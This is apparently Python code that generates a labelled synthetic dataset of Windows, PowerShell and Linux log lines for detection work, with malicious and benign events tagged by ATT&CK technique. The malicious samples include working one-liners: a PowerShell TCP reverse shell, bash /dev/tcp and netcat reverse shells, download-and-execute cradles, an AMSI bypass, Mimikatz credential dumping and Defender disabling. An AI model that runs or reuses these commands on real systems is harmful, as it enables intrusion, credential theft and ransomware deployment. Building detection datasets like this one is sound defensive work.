    add(s, sj(3, "WS-FIN-014.corp.example.com", 80, {"Image": S32 + "WindowsPowerShell\\v1.0\\powershell.exe", "User": "CORP\\jsmith", "Protocol": "tcp", "Initiated": "true", "SourceIp": "10.20.14.55", "SourcePort": "51544", "DestinationIp": "91.215.85.17", "DestinationPort": "4444", "DestinationHostname": "-"}),
        "T1571", "PowerShell connecting out to port 4444")
    add(s, sj(3, "WS-FIN-014.corp.example.com", 82, {"Image": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "User": "CORP\\jsmith", "Protocol": "tcp", "Initiated": "true", "SourceIp": "10.20.14.55", "SourcePort": "51611", "DestinationIp": "142.250.74.110", "DestinationPort": "443", "DestinationHostname": "www.google.com"}),
        None, "browser HTTPS")
    add(s, pc(90, "FS02.corp.example.com", S32 + "wbem\\WMIC.exe", "wmic shadowcopy delete /nointeractive", S32 + "cmd.exe", "cmd /c", "CORP\\adm-rkhan", "wmic.exe"),
        "T1490", "shadow copies deleted with WMIC")
    add(s, pc(92, "FS02.corp.example.com", S32 + "bcdedit.exe", "bcdedit /set {default} recoveryenabled no", S32 + "cmd.exe", "cmd /c", "CORP\\adm-rkhan", "bcdedit.exe"),
        "T1490", "boot recovery disabled")
    add(s, sj(11, "FS02.corp.example.com", 95, {"Image": "C:\\ProgramData\\svc\\lckr.exe", "TargetFilename": "D:\\Shares\\Finance\\README_RESTORE_FILES.txt", "User": "CORP\\adm-rkhan", "CreationUtcTime": ts(95)}),
        "T1486", "ransom note dropped in a share by an unknown binary")
    add(s, sj(11, "FS02.corp.example.com", 96, {"Image": "C:\\ProgramData\\svc\\lckr.exe", "TargetFilename": "D:\\Shares\\Finance\\Q3-forecast.xlsx.lockbit", "User": "CORP\\adm-rkhan", "CreationUtcTime": ts(96)}),
        "T1486", "file rewritten with a ransomware extension")
    add(s, pc(100, "WS-ENG-031.corp.example.com", "C:\\Users\\rkhan\\Downloads\\AdFind.exe", "AdFind.exe -f (objectcategory=computer) -csv name operatingSystem", S32 + "cmd.exe", "cmd.exe", "CORP\\rkhan", "AdFind.exe"),
        "T1018", "AdFind enumerating every computer in the domain")
    add(s, pc(110, "WS-ENG-031.corp.example.com", S32 + "nltest.exe", "nltest /dclist:corp.example.com", S32 + "cmd.exe", "cmd.exe", "CORP\\rkhan", "nltestrk.exe"),
        "T1018", "domain controller discovery")
    add(s, pc(120, "WS-ENG-031.corp.example.com", "C:\\Users\\rkhan\\AppData\\Local\\Temp\\m64.exe", "m64.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", S32 + "cmd.exe", "cmd.exe", "CORP\\rkhan", "mimikatz.exe"),
        "T1003.001", "renamed mimikatz dumping logon passwords")
    add(s, pc(130, "WS-ENG-031.corp.example.com", S32 + "wbem\\WMIC.exe", "wmic /node:10.20.60.12 process call create \"cmd.exe /c C:\\Windows\\Temp\\r.bat\"", S32 + "cmd.exe", "cmd.exe", "CORP\\adm-rkhan", "wmic.exe"),
        "T1047", "remote process creation over WMI")
    add(s, pc(140, "WS-IT-001.corp.example.com", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", "CORP\\adm-pchen"),
        None, "browser renderer")
    add(s, pc(150, "WS-ENG-031.corp.example.com", S32 + "WindowsPowerShell\\v1.0\\powershell.exe", "\"powershell.exe\" -NoProfile -NonInteractive -ExecutionPolicy Bypass -File \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\a1f3c2d4_Set-Bitlocker.ps1\"",
           "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe", "AgentExecutor.exe -powershell", "NT AUTHORITY\\SYSTEM", "PowerShell.EXE"),
        None, "Intune running a signed policy script with ExecutionPolicy Bypass")
    add(s, pc(160, "SQL01.corp.example.com", S32 + "vssadmin.exe", "vssadmin create shadow /for=D:", "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe", "Veeam.EndPoint.Service.exe", "NT AUTHORITY\\SYSTEM"),
        None, "Veeam creating a shadow copy for its backup")
    add(s, sj(22, "WS-HR-007.corp.example.com", 170, {"Image": "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "QueryName": "outlook.office365.com", "QueryStatus": "0", "QueryResults": "type:  5 outlook.ha.office365.com;::ffff:52.97.146.178;", "User": "CORP\\mgarcia"}),
        None, "Outlook resolving Exchange Online")
    add(s, sj(7, "WS-IT-001.corp.example.com", 180, {"Image": "C:\\Windows\\explorer.exe", "ImageLoaded": S32 + "shell32.dll", "Signed": "true", "Signature": "Microsoft Windows", "SignatureStatus": "Valid", "User": "CORP\\adm-pchen"}),
        None, "signed DLL load")
    add(s, sj(11, "WS-HR-007.corp.example.com", 190, {"Image": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "TargetFilename": "C:\\Users\\mgarcia\\Documents\\Offer letter.docx", "User": "CORP\\mgarcia", "CreationUtcTime": ts(190)}),
        None, "user saving a document")
    add(s, pc(200, "WS-IT-001.corp.example.com", S32 + "whoami.exe", "whoami /groups", S32 + "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\"", "CORP\\adm-pchen"),
        None, "admin checking his own group membership interactively")
    add(s, pc(210, "SRV-APP02.corp.example.com", S32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", S32 + "services.exe", "C:\\Windows\\system32\\services.exe", "NT AUTHORITY\\SYSTEM"),
        None, "Task Scheduler service host")
    add(s, pc(220, "WS-HR-007.corp.example.com", "C:\\Users\\mgarcia\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", "\"Teams.exe\" --system-initiated", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "CORP\\mgarcia"),
        None, "Teams at login")
    add(s, pc(230, "WS-FIN-020.corp.example.com", S32 + "msiexec.exe", "msiexec.exe /i C:\\Windows\\ccmcache\\7a\\AcroRdrDCx64.msi /qn", "C:\\Windows\\CCM\\CcmExec.exe", "C:\\Windows\\CCM\\CcmExec.exe", "NT AUTHORITY\\SYSTEM"),
        None, "SCCM software deployment")
    add(s, sj(3, "WS-FIN-020.corp.example.com", 240, {"Image": S32 + "svchost.exe", "User": "NT AUTHORITY\\NETWORK SERVICE", "Protocol": "tcp", "Initiated": "true", "SourceIp": "10.20.14.80", "SourcePort": "50110", "DestinationIp": "13.107.4.50", "DestinationPort": "443", "DestinationHostname": "download.windowsupdate.com"}),
        None, "Windows Update download")
    add(s, sj(22, "WS-ENG-031.corp.example.com", 250, {"Image": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "QueryName": "github.com", "QueryStatus": "0", "QueryResults": "::ffff:140.82.121.4;", "User": "CORP\\rkhan"}),
        None, "browser DNS lookup")
    add(s, pc(260, "SRV-APP02.corp.example.com", S32 + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -ExecutionPolicy Bypass -NoProfile -File C:\\Windows\\CCM\\SignedScripts\\Get-InventoryExtras.ps1", "C:\\Windows\\CCM\\CcmExec.exe", "C:\\Windows\\CCM\\CcmExec.exe", "NT AUTHORITY\\SYSTEM", "PowerShell.EXE"),
        None, "SCCM signed inventory script with ExecutionPolicy Bypass")
    add(s, sj(13, "WS-IT-001.corp.example.com", 270, {"EventType": "SetValue", "Image": "C:\\Windows\\system32\\msiexec.exe", "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\SecurityHealth", "Details": "%windir%\\system32\\SecurityHealthSystray.exe", "User": "NT AUTHORITY\\SYSTEM"}),
        None, "Windows Security tray icon autostart restored by an update")
    add(s, pc(280, "BKP01.corp.example.com", S32 + "wbadmin.exe", "wbadmin start backup -backupTarget:E: -include:C:,D: -quiet", S32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "CORP\\svc_backup"),
        None, "scheduled Windows Server Backup")


def powershell():
    s = "powershell"
    prov = ("Microsoft-Windows-PowerShell", "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}")
    ch = "Microsoft-Windows-PowerShell/Operational"

    def sb(sec, comp, text, user="CORP\\jsmith", path=""):
        return win_xml(4104, comp, sec, [("MessageNumber", "1"), ("MessageTotal", "1"), ("ScriptBlockText", text), ("ScriptBlockId", "%08x-0e5c-4a9b-9a3d-%012x" % (R.getrandbits(32), R.getrandbits(48))), ("Path", path)],
                       channel=ch, prov=prov, task=2, keywords="0x0", level=5)

    def classic(eid, sec, comp, hostapp, state="Available", extra=""):
        msg = {400: "Engine state is changed from None to Available.", 800: "Pipeline execution details for command line: .", 600: 'Provider "Registry" is Started.'}[eid]
        return (f"{ts(sec, 'splunk')} LogName=Windows PowerShell EventCode={eid} EventType=4 ComputerName={comp} SourceName=PowerShell "
                f"Type=Information RecordNumber={R.randint(1000, 99999)} Keywords=Classic TaskCategory=Engine Lifecycle OpCode=Info "
                f"Message={msg} Details: NewEngineState={state} PreviousEngineState=None SequenceNumber={R.randint(10, 999)} HostName=ConsoleHost "
                f"HostVersion=5.1.22621.4391 HostId={R.getrandbits(32):08x}-21c4-4d0f-8d47-{R.getrandbits(48):012x} HostApplication={hostapp} EngineVersion=5.1.22621.4391 RunspaceId={R.getrandbits(32):08x}-9b5e-4c3f-a3e1-{R.getrandbits(48):012x} PipelineId= CommandName= CommandType= ScriptName= CommandPath= CommandLine={extra}")
    add(s, sb(10, "WS-FIN-014.corp.example.com", "IEX (New-Object Net.WebClient).DownloadString('http://91.215.85.17/Invoke-Stage.ps1')"), "T1059.001", "classic download cradle")
    add(s, sb(20, "WS-FIN-014.corp.example.com", "$d=[System.Convert]::FromBase64String('SUVYIChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQpLkRvd25sb2FkU3RyaW5nKCdodHRwOi8vOTEuMjE1Ljg1LjE3L2EnKQ==');$s=[Text.Encoding]::ASCII.GetString($d);iex $s"),
        "T1027", "base64-decoded script executed with iex")
    add(s, sb(30, "WS-MKT-002.corp.example.com", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)", user="CORP\\lnguyen"),
        "T1562.001", "AMSI bypass via amsiInitFailed")
    add(s, sb(40, "WS-ENG-031.corp.example.com", "Invoke-Mimikatz -Command '\"sekurlsa::logonpasswords\"' | Out-File C:\\Users\\Public\\o.txt", user="CORP\\rkhan"), "T1003.001", "Invoke-Mimikatz credential dump")
    add(s, sb(50, "WS-FIN-014.corp.example.com", "Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true"), "T1562.001", "Defender real-time protection switched off")
    add(s, sb(60, "WS-FIN-014.corp.example.com", "Add-MpPreference -ExclusionPath 'C:\\ProgramData\\svc'"), "T1562.001", "Defender exclusion for the malware folder")
    add(s, sb(70, "WS-HR-007.corp.example.com", "Invoke-WebRequest -Uri http://45.9.148.22/w.exe -OutFile $env:TEMP\\w.exe; Start-Process $env:TEMP\\w.exe", user="CORP\\mgarcia"), "T1105", "download and run a binary")
    add(s, sb(80, "WS-HR-007.corp.example.com", "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'Updater' -Value 'C:\\Users\\mgarcia\\AppData\\Roaming\\updater.exe' -PropertyType String -Force", user="CORP\\mgarcia"),
        "T1547.001", "Run key written from PowerShell")
    add(s, sb(90, "WS-ENG-031.corp.example.com", "Get-ADComputer -Filter * -Properties OperatingSystem,LastLogonDate | Export-Csv C:\\Users\\Public\\c.csv -NoTypeInformation", user="CORP\\rkhan"),
        "T1018", "bulk AD computer enumeration to a public folder")
    add(s, sb(95, "WS-ENG-031.corp.example.com", "$c=New-Object System.Net.Sockets.TCPClient('91.215.85.17',443);$st=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$st.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$sb=(iex $d 2>&1|Out-String);$st.Write(([text.encoding]::ASCII.GetBytes($sb)),0,$sb.Length)}", user="CORP\\rkhan"),
        "T1059.001", "PowerShell TCP reverse shell")
    add(s, classic(400, 100, "WS-MKT-002.corp.example.com", "powershell.exe -nop -w hidden -enc " + enc("IEX (iwr 'http://45.9.148.22/b' -UseBasicParsing)")), "T1059.001", "hidden PowerShell engine started with an encoded command")
    add(s, classic(800, 110, "WS-FIN-014.corp.example.com", "powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -c \"(New-Object Net.WebClient).DownloadFile('http://91.215.85.17/k.dll','C:\\Users\\Public\\k.dll');rundll32 C:\\Users\\Public\\k.dll,Start\"", extra="DownloadFile"),
        "T1105", "hidden pipeline downloading a DLL and running it")
    # benign
    add(s, sb(200, "WS-FIN-020.corp.example.com", "# Signed by CORP Endpoint Engineering&#xD;&#xA;param([string]$Baseline='CIS-L1')&#xD;&#xA;$items = Get-CimInstance -Namespace root\\ccm\\dcm -ClassName SMS_DesiredConfiguration&#xD;&#xA;foreach ($i in $items) { Write-Output $i.DisplayName }", user="NT AUTHORITY\\SYSTEM", path="C:\\Windows\\CCM\\SystemTemp\\Invoke-ComplianceCheck.ps1"),
        None, "SCCM compliance script body")
    add(s, sb(210, "WS-IT-001.corp.example.com", "Get-Process | Sort-Object CPU -Descending | Select-Object -First 10", user="CORP\\adm-pchen"), None, "admin looking at busy processes")
    add(s, sb(220, "WS-IT-001.corp.example.com", "Get-Service -Name Spooler | Restart-Service -Verbose", user="CORP\\adm-pchen"), None, "admin restarting the print spooler")
    add(s, sb(230, "BKP01.corp.example.com", "Add-PSSnapin VeeamPSSnapin; Get-VBRJob | Where-Object {$_.IsScheduleEnabled} | Start-VBRJob -RunAsync", user="CORP\\svc_veeam"), None, "Veeam backup jobs started from PowerShell")
    add(s, sb(240, "WS-ENG-031.corp.example.com", "Import-Module ActiveDirectory; Get-ADUser -Identity rkhan -Properties MemberOf", user="CORP\\rkhan"), None, "user looking up his own AD account")
    add(s, sb(250, "WS-HR-007.corp.example.com", "Set-StrictMode -Version 1; $_.PSMessageDetails", user="CORP\\mgarcia"), None, "PowerShell's own formatting script block")
    add(s, classic(400, 260, "WS-ENG-031.corp.example.com", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -ExecutionPolicy Bypass -File \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\a1f3c2d4_Set-Bitlocker.ps1\""),
        None, "Intune policy script host with ExecutionPolicy Bypass")
    add(s, classic(400, 270, "WS-FIN-020.corp.example.com", "powershell.exe -NoLogo -NonInteractive -ExecutionPolicy Bypass -File C:\\Windows\\CCM\\SignedScripts\\Get-InventoryExtras.ps1"), None, "SCCM signed inventory script")
    add(s, classic(600, 280, "WS-IT-001.corp.example.com", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"), None, "provider start noise")
    add(s, classic(800, 290, "WS-IT-001.corp.example.com", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", extra="Get-ChildItem C:\\Logs -Filter *.log | Remove-Item -WhatIf"),
        None, "admin pipeline cleaning old logs (dry run)")
    add(s, f"{ts(300, 'isos')} WS-IT-001 Microsoft-Windows-PowerShell[4103]: CommandInvocation(Get-WindowsUpdate): \"Get-WindowsUpdate\" ParameterBinding(Get-WindowsUpdate): name=\"MicrosoftUpdate\"; value=\"True\" Context: Host Application = powershell.exe User = CORP\\adm-pchen",
        None, "PSWindowsUpdate module run by an admin")
    add(s, f"{ts(310, 'isos')} WS-MKT-002 Microsoft-Windows-PowerShell[4103]: CommandInvocation(Set-MpPreference): \"Set-MpPreference\" ParameterBinding(Set-MpPreference): name=\"DisableRealtimeMonitoring\"; value=\"True\" Context: Host Application = powershell -nop -w hidden User = CORP\\lnguyen",
        "T1562.001", "Defender realtime monitoring disabled (module logging)")
    add(s, sb(320, "WS-HR-007.corp.example.com", "Get-ChildItem -Path C:\\Users\\mgarcia\\Documents -Recurse -Filter *.pdf | Measure-Object", user="CORP\\mgarcia"), None, "user counting her PDFs")


def linux_syslog():
    s = "linux-syslog"

    def r3164(sec, host, prog, msg, pid=True):
        p = f"{prog}[{R.randint(300, 40000)}]" if pid else prog
        return f"{ts(sec, '3164')} {host} {p}: {msg}"

    def r5424(sec, host, app, msg, pri=30, msgid="-"):
        return f"<{pri}>1 {ts(sec)} {host} {app} {R.randint(300, 40000)} {msgid} - {msg}"
    add(s, r3164(10, "web01", "CRON", "(root) CMD (cd / && run-parts --report /etc/cron.hourly)"), None, "hourly cron")
    add(s, r3164(20, "web01", "CRON", "(www-data) CMD (curl -fsSL http://45.9.148.22/k.sh | sh)"), "T1053.003", "cron job for www-data piping a remote script to sh")
    add(s, r3164(30, "web01", "crontab", "(www-data) REPLACE (www-data)"), "T1053.003", "web server user replaced its crontab")
    add(s, r3164(40, "db02", "kernel", "[1894521.332101] diamorphine: loading out-of-tree module taints kernel.", pid=False), "T1547.006", "rootkit kernel module loaded")
    add(s, r3164(50, "db02", "kernel", "[1894600.120004] e1000e 0000:00:19.0 eno1: NIC Link is Up 1000 Mbps Full Duplex, Flow Control: Rx/Tx", pid=False), None, "link up")
    add(s, r3164(60, "app03", "systemd", "Started dbus-org.freedesktop.helper.service - /tmp/.X11-unix/.d/dbus-helper."), "T1543.002", "systemd unit running a binary from a hidden /tmp folder")
    add(s, r3164(70, "app03", "systemd", "Started xmrig.service - XMRig miner."), "T1496.001", "crypto miner started as a service")
    add(s, r3164(80, "app03", "xmrig", "[2026-11-30 08:00:01.112]  net  use pool stratum+tcp://pool.supportxmr.com:3333  TLS off"), "T1496.001", "miner connecting to a stratum pool")
    add(s, r5424(90, "web01.corp.example.com", "bash", "HISTORY: PID=23122 UID=33 bash -i >& /dev/tcp/91.215.85.17/443 0>&1", pri=86), "T1059.004", "interactive bash reverse shell")
    add(s, r5424(100, "web01.corp.example.com", "bash", "HISTORY: PID=23122 UID=33 history -c", pri=86), "T1070.003", "shell history cleared by the web user")
    add(s, r5424(110, "db02.corp.example.com", "auditd", "The audit daemon is exiting.", pri=29), "T1562.012", "audit daemon stopped")
    add(s, r5424(120, "db02.corp.example.com", "systemd", "Stopped rsyslog.service - System Logging Service.", pri=30), "T1562.006", "system logging service stopped")
    add(s, r5424(125, "web01.corp.example.com", "bash", "HISTORY: PID=23190 UID=33 python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", pri=86), "T1059.006", "pty upgrade of a captured shell")
    # benign
    add(s, r3164(200, "web01", "systemd", "Started session 4812 of user deploy."), None, "login session")
    add(s, r3164(210, "web01", "systemd", "Starting Daily apt upgrade and clean activities..."), None, "apt timer")
    add(s, r3164(220, "web01", "unattended-upgrade", "Packages that will be upgraded: libssl3 openssl"), None, "security updates")
    add(s, r5424(230, "backup01.corp.example.com", "borg", "Archive 'srv-2026-11-30T02:00' created: 12.41 GB original, 1.02 GB deduplicated", pri=30), None, "borg backup")
    add(s, r5424(240, "backup01.corp.example.com", "restic", "snapshot 4f9e21c7 saved; files: 48211 new, 112 changed", pri=30), None, "restic backup")
    add(s, r3164(250, "db02", "CRON", "(postgres) CMD (/usr/local/bin/pg_backup.sh > /var/log/pg_backup.log 2>&1)"), None, "database backup cron")
    add(s, r3164(260, "db02", "rsync", "sent 2,114,552,901 bytes  received 13,441 bytes  total size 98,221,004,117"), None, "rsync to backup host")
    add(s, r3164(270, "app03", "chronyd", "Selected source 10.0.0.2 (ntp1.corp.example.com)"), None, "ntp")
    add(s, r3164(280, "app03", "NetworkManager", "<info>  [1764489611.1234] dhcp4 (eth0): state changed new lease, address=10.30.2.17"), None, "dhcp lease")
    add(s, r5424(290, "web01.corp.example.com", "certbot", "Certificate renewed for shop.example.com; deploy hook ran: systemctl reload nginx", pri=30), None, "Let's Encrypt renewal")
    add(s, r3164(300, "web01", "logrotate", "ALERT exited abnormally with [1]"), None, "logrotate warning, not a security event")
    add(s, r3164(310, "app03", "kernel", "[1894700.200001] Out of memory: Killed process 4121 (java) total-vm:8123456kB", pid=False), None, "OOM killer")
    add(s, r3164(320, "app03", "systemd", "Started nginx.service - A high performance web server and a reverse proxy server."), None, "service start")
    add(s, r5424(330, "db02.corp.example.com", "dockerd", "level=info msg=\"Container 2b1f8e health status changed to healthy\"", pri=30), None, "docker health")
    add(s, r3164(340, "web01", "systemd", "Reloaded nginx.service - A high performance web server."), None, "reload")


def linux_auth():
    s = "linux-auth"

    def a(sec, host, prog, msg):
        return f"{ts(sec, '3164')} {host} {prog}[{R.randint(300, 60000)}]: {msg}"
    for i in range(6):
        add(s, a(10 + i, "bastion01", "sshd", f"Failed password for root from 218.92.0.107 port {R.randint(30000, 65000)} ssh2"), "T1110.001", "burst of failed root passwords from one IP")
    for i, u in enumerate(["oracle", "test", "ubuntu", "git", "ftpuser"]):
        add(s, a(40 + i * 2, "bastion01", "sshd", f"Failed password for invalid user {u} from 103.145.13.20 port {R.randint(30000, 65000)} ssh2"), "T1110.003", "one IP trying many user names")
    add(s, a(60, "bastion01", "sshd", "Accepted publickey for deploy from 10.30.1.5 port 51514 ssh2: ED25519 SHA256:q9Wm2kTe1lcZp0o8y6R3nV4dXbF5sJ7hUgA1iL2oK3c"), None, "deploy key login from CI")
    add(s, a(70, "web01", "sshd", "Failed password for alice from 10.30.4.44 port 52220 ssh2"), None, "one mistyped password, no burst")
    add(s, a(71, "web01", "sshd", "Accepted password for alice from 10.30.4.44 port 52224 ssh2"), None, "same user succeeds right after")
    add(s, a(80, "web01", "sudo", "www-data : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash"), "T1548.003", "web user gets a root shell through sudo")
    add(s, a(90, "web01", "sudo", "alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt-get update"), None, "admin updating packages")
    add(s, a(100, "web01", "sudo", "www-data : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/chmod u+s /usr/bin/find"), "T1548.001", "SUID bit set on find")
    add(s, a(110, "db02", "sudo", "svc_etl : TTY=pts/2 ; PWD=/home/svc_etl ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow"), "T1003.008", "shadow file read via sudo")
    add(s, a(120, "db02", "sudo", "svc_etl : TTY=pts/2 ; PWD=/home/svc_etl ; USER=root ; COMMAND=/sbin/insmod /tmp/.k/nf.ko"), "T1547.006", "kernel module inserted from /tmp")
    add(s, a(130, "db02", "useradd", "new user: name=sysupd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/2"), "T1136.001", "second uid-0 account created")
    add(s, a(140, "db02", "sudo", "svc_etl : TTY=pts/2 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/tee -a /root/.ssh/authorized_keys"), "T1098.004", "key appended to root's authorized_keys")
    add(s, a(150, "bastion01", "sshd", "Accepted password for root from 218.92.0.107 port 61001 ssh2"), "T1078.003", "root login succeeds from the IP that was brute-forcing")
    add(s, a(160, "web01", "su", "(to root) www-data on pts/0"), "T1548.003", "web server account switching to root")
    # benign
    add(s, a(200, "web01", "sshd", "pam_unix(sshd:session): session opened for user alice(uid=1001) by (uid=0)"), None, "session open")
    add(s, a(210, "web01", "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"), None, "cron session")
    add(s, a(215, "web01", "CRON", "pam_unix(cron:session): session closed for user root"), None, "cron session")
    add(s, a(220, "db02", "useradd", "new user: name=jdoe, UID=1004, GID=1004, home=/home/jdoe, shell=/bin/bash, from=/dev/pts/0"), None, "ordinary user created by an admin")
    add(s, a(225, "db02", "useradd", "new group: name=jdoe, GID=1004"), None, "group for the new user")
    add(s, a(230, "db02", "passwd", "pam_unix(passwd:chauthtok): password changed for jdoe"), None, "initial password set")
    add(s, a(240, "db02", "su", "(to postgres) dba-mike on pts/3"), None, "DBA switching to postgres")
    add(s, a(250, "bastion01", "sshd", "Received disconnect from 10.30.1.5 port 51514:11: disconnected by user"), None, "disconnect")
    add(s, a(260, "bastion01", "sshd", "Connection closed by authenticating user deploy 10.30.1.5 port 51600 [preauth]"), None, "preauth close")
    add(s, a(270, "web01", "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1001)"), None, "sudo session for the admin")
    add(s, a(280, "web01", "systemd-logind", "New session 4812 of user deploy."), None, "logind")
    add(s, a(290, "app03", "sudo", "deploy : TTY=unknown ; PWD=/srv/app ; USER=root ; COMMAND=/usr/bin/systemctl restart app.service"), None, "deploy restarting the app")
    add(s, a(300, "app03", "sshd", "Server listening on 0.0.0.0 port 22."), None, "sshd start")
    add(s, a(310, "app03", "sudo", "alice : TTY=pts/4 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/whoami"), None, "admin checking sudo works")


def auditd():
    s = "auditd"
    seq = [40100]

    def mid(sec):
        seq[0] += R.randint(3, 40)
        return f"audit({ts(sec, 'audit')}:{seq[0]})"

    def execve(sec, host, argv, uid, auid, exe, comm, key, cwd="/tmp"):
        m = mid(sec)
        args = " ".join(f'a{i}="{x}"' if all(c.isalnum() or c in "/-._:=" for c in x) else f"a{i}={hexs(x)}" for i, x in enumerate(argv))
        pt = hexs("\x00".join(argv))
        return [f"node={host} type=SYSCALL msg={m}: arch=c000003e syscall=59 success=yes exit=0 a0=55d0c8a1e2a0 a1=55d0c8a1e3f0 a2=55d0c8a1e500 a3=8 items=2 ppid={R.randint(1000, 30000)} pid={R.randint(1000, 30000)} auid={auid} uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=pts0 ses={R.randint(1, 900)} comm=\"{comm}\" exe=\"{exe}\" subj=unconfined key=\"{key}\"",
                f"node={host} type=EXECVE msg={m}: argc={len(argv)} {args}",
                f"node={host} type=PROCTITLE msg={m}: proctitle={pt}"]

    def trio(sec, host, argv, uid, auid, exe, comm, key, tech, note, syscall=True):
        # The SYSCALL record of an exec carries only comm/exe; where those say nothing on their own (cat, chmod,
        # python3, wget) that record is left out rather than labelled unanswerable.
        for i, line in enumerate(execve(sec, host, argv, uid, auid, exe, comm, key)):
            if i or syscall:
                add(s, line, tech, note)
    trio(10, "web01", ["cat", "/etc/shadow"], 33, 4294967295, "/usr/bin/cat", "cat", "exec", "T1003.008", "web server user reading /etc/shadow", syscall=False)
    trio(20, "web01", ["nc", "-e", "/bin/sh", "91.215.85.17", "4444"], 33, 4294967295, "/usr/bin/nc.traditional", "nc", "exec", "T1059.004", "netcat reverse shell")
    trio(30, "db02", ["auditctl", "-D"], 0, 1002, "/usr/sbin/auditctl", "auditctl", "audit_cfg", "T1562.012", "all audit rules deleted")
    trio(40, "db02", ["chmod", "4755", "/tmp/.x/sh"], 0, 1002, "/usr/bin/chmod", "chmod", "perm_mod", "T1548.001", "SUID shell copy in /tmp", syscall=False)
    add(s, f"node=db02 type=SYSCALL msg={mid(50)}: arch=c000003e syscall=175 success=yes exit=0 a0=7f2c1a000010 a1=3e8a0 a2=55f1e2a3b4c0 a3=0 items=0 ppid=2211 pid=2290 auid=1002 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts2 ses=77 comm=\"insmod\" exe=\"/usr/bin/kmod\" subj=unconfined key=\"modules\"",
        "T1547.006", "init_module syscall from insmod by a user session")
    trio(60, "app03", ["python3", "-c", "import pty;pty.spawn('/bin/bash')"], 1001, 1001, "/usr/bin/python3.11", "python3", "exec", "T1059.006", "python pty spawn", syscall=False)
    trio(70, "app03", ["/tmp/.cache/kswapd0", "-o", "stratum+tcp://xmr.pool.example.net:3333", "--donate-level", "1"], 1001, 1001, "/tmp/.cache/kswapd0", "kswapd0", "exec", "T1496.001", "miner disguised as kswapd0")
    add(s, f"node=web01 type=SYSCALL msg={mid(80)}: arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd1b2c3d40 a2=441 a3=1b6 items=2 ppid=23122 pid=23301 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=4294967295 comm=\"bash\" exe=\"/usr/bin/bash\" subj=unconfined key=\"ssh_keys\"",
        "T1098.004", "root authorized_keys opened for writing by a shell without a login session")
    trio(90, "web01", ["wget", "-q", "http://45.9.148.22/x", "-O", "/tmp/.x/x"], 33, 4294967295, "/usr/bin/wget", "wget", "exec", "T1105", "web user downloading a payload into a hidden folder", syscall=False)
    # benign
    trio(200, "app03", ["systemctl", "status", "nginx"], 0, 1001, "/usr/bin/systemctl", "systemctl", "exec", None, "admin checking a service")
    trio(210, "app03", ["apt-get", "update"], 0, 1001, "/usr/bin/apt-get", "apt-get", "exec", None, "package index update")
    trio(220, "backup01", ["restic", "backup", "/srv", "--tag", "nightly"], 0, 4294967295, "/usr/bin/restic", "restic", "exec", None, "nightly restic backup from a systemd timer")
    trio(230, "backup01", ["rsync", "-a", "--delete", "/srv/", "backup@10.30.9.9:/vol/srv/"], 0, 4294967295, "/usr/bin/rsync", "rsync", "exec", None, "rsync mirror job")
    trio(240, "web01", ["ls", "-la", "/var/www/html"], 1001, 1001, "/usr/bin/ls", "ls", "exec", None, "admin listing web root")
    add(s, f"node=web01 type=USER_LOGIN msg={mid(250)}: pid=4411 uid=0 auid=1001 ses=31 subj=unconfined msg='op=login id=1001 exe=\"/usr/sbin/sshd\" hostname=? addr=10.30.4.44 terminal=/dev/pts/1 res=success'",
        None, "admin ssh login")
